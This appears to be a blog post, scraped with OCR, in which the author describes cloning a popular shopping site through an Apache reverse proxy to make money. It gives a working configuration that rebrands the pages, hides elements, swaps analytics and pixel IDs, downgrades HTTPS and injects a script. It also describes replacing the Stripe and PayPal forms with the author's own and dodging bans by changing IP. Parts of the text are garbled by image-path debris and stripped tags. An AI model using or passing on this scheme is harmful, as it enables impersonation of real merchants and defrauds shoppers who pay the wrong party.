How I'm making 10K/W by proxing a popular website

How I'm making 10K/W by proxing a popular website

We will call our target webiste is a fake name because I'm not going to tell you the real one :) ), this is a popular website which sales a lot of products of several categories you can think in websites like amazon, mercadolibre, whish and others.

Time creating the solution until now: 4 hours , 35 minutes.


We are going to
  • Proxy the website, then we will
  • change all words tiquito with the new name lolito, then we will
  • change all price to the double price (our profit)
  • change the payment form with our payment account
  • and finally we will run the reall products
So basically, people will buy any product, pay it to me, then I will buy the products from the original website.

So lets start.1. Create a fake DNS entry

[email protected]:~# cat /etc/hosts

2. Create apache website entry

We need to activate with a2enmod several modules, for ProxyRequest, to change headers,subtitute.proxypass, alias, and more.

We need to activate SSLproxyengine to allow to use the certificate in the handshake request, also we need to remove Accept-encoding header, otherwise the data will be transfer zipped and will not be possible to replace the HTML words.
For the app.js file I'm using Alias because will be more simpler to handle rather that directories. You need to study the original website, to see which variables replace also it is very importante the order ofreplacement, when you do this kind of tasks, always replace +N words rather than single words for example: replacing "webiste" word will be bad idea because can change "" and other, I suggest to replace more thatn 2 words at time.

[email protected]:~# cat /etc/apache2/sites-available/000-default.conf

    ProxyRequests Off
    Order deny,allow
    Allow from all
    SSLProxyEngine OnRequestHeader set Front-End-Https "On"
    RequestHeader unset Accept-Encoding

    # we will use this file to any POST operation
    Alias /app.js /var/www/html/app.js

    ProxyPassMatch ^/app.js !
    ProxyPass / https://www.*****.com/
    ProxyPassReverse / https://www.*.com/

    # because a bug we need to inflate ,substitute, deflate
    AddOutputFilterByType INFLATE;SUBSTITUTE;DEFLATE text/html text/plain text/xml

    Substitute "s|logo|xxxxxxxx_logo_header|i"# We can hide divs for exaple
    Substitute "s|footer-content\"|footer-content\" style='display: none'|i"

    # SUper important! add our script :) SOME TAGS removed!
Substitute "s|
    Substitute "s|
    # we will use HTTPS of course!! but not from here :) from cloudflare
    Substitute "s|https|http|i"

    # we will change CDN also! we need to add the entry too
    Substitute "s|||i"

    # SO good! lets replace APPS ids.

    #_gaq.push(['_setAccount', 'UA-***-1']);
    Substitute "s|UA-***-1|your-id|i"

    #_gaq.push(['_setDomainName','****.com']);
    Substitute "s|'****.com'|''|i"

    #fb pixel ID    img.src = ("https:"==document.location.protocol?"https://":"http://")+"****";
Substitute "s|*****|your-id|i"

    # fb id
    Substitute "s|*****|your-id|i"

     # wuju, the website name
    Substitute "s|website-name|your-new-website|i"# and then we add the rest of subdomains like CDN with proxy too.

    ProxyRequests Off
        Order deny,allow
        Allow fromall
    SSLProxyEngine On
    RequestHeader set Front-End-Https "On"
    ProxyPass / https://cdn.***.com/
    ProxyPassReverse / https://cdn.*****.com/

# vim: syntax=apache ts=4 sw=4 sts=4 sr noetRemember to replace all kind of ID apps, you can be banned because if you don't clean the html, will be a lot of requests generating bad errors(domain missmatch) so, remove all app ids, ALL OF THEM. YOu warn! and be prepare to change your ip in case of ban.

3. We are close to finish, lets add some final POST changes, to our front end, with javascript and jquery.

For my case, I will use Javascript to replace the STRIPE and PAYPAL form ,with my own form.

4. Create a webhook to buy the original items.continue.

0 pensamientos:

Post a Comment